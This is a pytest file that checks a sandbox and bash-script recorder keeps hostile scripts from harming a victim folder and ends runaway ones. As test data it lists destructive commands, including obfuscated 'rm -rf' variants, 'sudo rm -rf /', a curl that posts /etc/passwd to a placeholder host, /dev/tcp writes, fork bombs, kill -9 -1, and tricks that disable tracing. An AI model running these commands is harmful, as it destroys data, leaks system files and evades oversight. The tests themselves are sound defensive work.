"""Hostile scripts, traced for real: nothing outside the temporary folder changes, and all end.

The recorder itself (no command is looked up, no program runs) works everywhere. With Landlock and
seccomp in the kernel, bash itself is confined too.
"""

from __future__ import annotations

import os
import tempfile
import time

import pytest
from parity.recorder import trace, trace_without_sandbox, tree_of

from ci_sessions.run import sandbox
from ci_sessions.run.descendants import descendants

LIMIT = 5.0


@pytest.fixture
def victim(tmp_path):
    """A world-writable home folder, which only the sandbox and the recorder protect."""
    home = tmp_path / "a victim"
    home.mkdir()
    (home / "precious.txt").write_text("all of it")
    home.chmod(0o777)
    (home / "precious.txt").chmod(0o666)
    tmp_path.chmod(0o777)
    return home


def unharmed(home):
    return [p.name for p in home.iterdir()] == ["precious.txt"] and (
        home / "precious.txt"
    ).read_text() == "all of it"


def hostile(tmp_path, text, limit=LIMIT):
    """Trace a hostile script; return the recording and the duration in seconds."""
    before = descendants()
    began = time.monotonic()
    recording = trace(tree_of(tmp_path / "tree", text), limit=limit)
    took = time.monotonic() - began
    assert descendants() <= before
    return recording, took


@pytest.mark.parametrize("sandboxed", [True, False], ids=["sandbox", "no sandbox"])
def test_harmful_commands_are_only_recorded(tmp_path, victim, sandboxed):
    """Even without the kernel's sandbox, the recorder keeps programs from running."""
    text = f"""
rm -rf "$HOME" "{victim}"
/bin/rm -rf "{victim}"
"/bin/"r'm' -rf "{victim}"
command rm -rf "{victim}"
env rm -rf "{victim}"
PATH=/bin rm -rf "{victim}"
PATH=/bin; rm -rf "{victim}"; $(echo rm) -rf "{victim}"
eval "rm -rf '{victim}'"
builtin eval 'rm -rf "{victim}"'
hash -p /bin/rm gone; gone -rf "{victim}"
find "{victim}" -delete
find "{victim}" -exec rm {{}} +
sed -i d "{victim}/precious.txt"
sed 'w {victim}/made' /dev/null
sed -Ei d "{victim}/precious.txt"
sort -uo "{victim}/made" /dev/null
awk 'BEGIN {{ print > "{victim}/made" }}'
sort -o "{victim}/made" /dev/null
tee "{victim}/made" </dev/null
mv "{victim}/precious.txt" .
ln -s "{victim}" link; rm -rf link/precious.txt link/
cp /dev/null "{victim}/precious.txt"
curl -d @/etc/passwd https://example.invalid
python -c 'import shutil; shutil.rmtree("{victim}")'
sudo rm -rf /
exec /bin/rm -rf "{victim}"
"""
    if sandboxed:
        recording, _ = hostile(tmp_path, text)
    else:
        recording = trace_without_sandbox(tree_of(tmp_path / "tree", text), tmp_path / "base")
    assert unharmed(victim)
    names = [c.argv[0] for c in recording.commands]
    assert (names.count("rm"), names.count("/bin/rm")) == (9, 3)
    assert {"curl", "python", "sudo", "gone"} <= set(names)


needs_landlock = pytest.mark.skipif(
    not sandbox.has_landlock(), reason="this kernel has no Landlock"
)


@needs_landlock
def test_bash_itself_is_confined(tmp_path, victim):
    text = f"""
echo gone > "{victim}/precious.txt"
echo made > "{victim}/made"
: >| "{victim}/precious.txt"
exec 3<> "{victim}/precious.txt"; echo x >&3
(exec 5<>/dev/tcp/127.0.0.1/{{port}} && echo sent >&5)
echo sent > /dev/udp/127.0.0.1/9
python survived.py
"""
    recording, _ = hostile(tmp_path, text)
    assert unharmed(victim)
    assert recording.commands[-1].argv == ("python", "survived.py")


@needs_landlock
def test_no_program_is_started_and_no_permission_is_changed(tmp_path, victim):
    """The kernel stops what gets past the recorder."""
    victim.chmod(0o755)
    file = victim / "precious.txt"
    before = (file.stat().st_mode, file.stat().st_mtime_ns)
    text = f"""
R=$PWD; cd "{victim}"; PWD=$R; chmod 0600 precious.txt; touch -d @1 precious.txt; cd "$R"
__ci_=1 /bin/chmod 0600 "{file}"
export PATH=/usr/bin:/bin
trap "chmod 0640 '{file}'; rm -f '{file}'" EXIT
builtin exec /bin/sh -c "chmod 0600 '{file}'"
"""
    hostile(tmp_path, text)
    text = f"PATH=/bin; unset -f rm; \\rm -f '{file}'; command_not_found_handle() {{ :; }}; /bin/sh -c 'rm {file}'"
    hostile(tmp_path, text + "\n")
    assert (file.stat().st_mode, file.stat().st_mtime_ns) == before
    assert unharmed(victim)


def test_no_other_process_is_killed(tmp_path):
    """``kill`` is not a builtin while a script is traced, however it is called."""
    text = f"kill -9 {os.getpid()}\nbuiltin kill -9 -1\nenable kill\nkill -9 -1\npython alive.py\n"
    recording, _ = hostile(tmp_path, text)
    assert recording.commands[-1].argv == ("python", "alive.py")


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("while :; do :; done\n", "an endless loop?"),
        ("f() { f; }; f\n", ""),
        ("x=x; while :; do x=$x$x; done\n", ""),
        ("while :; do echo 0123456789 >> big; done\n", "an endless loop?"),
        ("read -r line < <(while :; do echo; done); cat /dev/zero\n", ""),
        ("printf '%999999999d' 1 > big\n", ""),
        (":() { : | : & }; :\n", ""),
        ("f() { f & f & }; f; wait\n", ""),
        ("trap '' TERM INT HUP; (while :; do :; done) & wait\n", ""),
        ("set -m; (while :; do read -t 1 < /dev/zero; done) & disown; python last.py\n", ""),
        ("mkfifo p; read -r x < p\n", ""),
        ("read -r -t 999 x <> <(:)\n", ""),
        ("exec 3< <(while :; do :; done); wait\n", ""),
    ],
)  # fmt: skip
def test_endless_scripts_are_ended(tmp_path, text, says):
    limit = (
        12 * LIMIT if says else LIMIT
    )  # the number of commands must be reached on a busy machine
    recording, took = hostile(tmp_path, text, limit)
    assert took < limit + 15
    assert not says or says in recording.fault.text


def test_a_script_that_hides_its_commands_has_a_fault(tmp_path):
    """Turning off the recorder from within is a fault, not a shorter recording."""
    for text in ("trap - DEBUG\npython hidden.py\n", "set +o functrace\npython hidden.py\n"):
        assert hostile(tmp_path, text)[0].fault
    recording, _ = hostile(
        tmp_path, "unset -f __ci_run python\n__ci_run() { :; }\npython seen.py\n"
    )
    assert recording.fault or recording.commands[-1].argv == ("python", "seen.py")


def test_the_temporary_folder_is_removed(tmp_path, monkeypatch):
    spare = tmp_path / "spare"
    spare.mkdir()
    for folder in (spare, *spare.parents):  # when root traces, another user must be able to enter
        if folder.stat().st_uid == os.geteuid():
            folder.chmod(folder.stat().st_mode | 0o711)
    monkeypatch.setattr(tempfile, "tempdir", str(spare))
    hostile(tmp_path, "mkdir -p a/b; chmod 000 a; python x.py\n")
    assert list(spare.iterdir()) == []
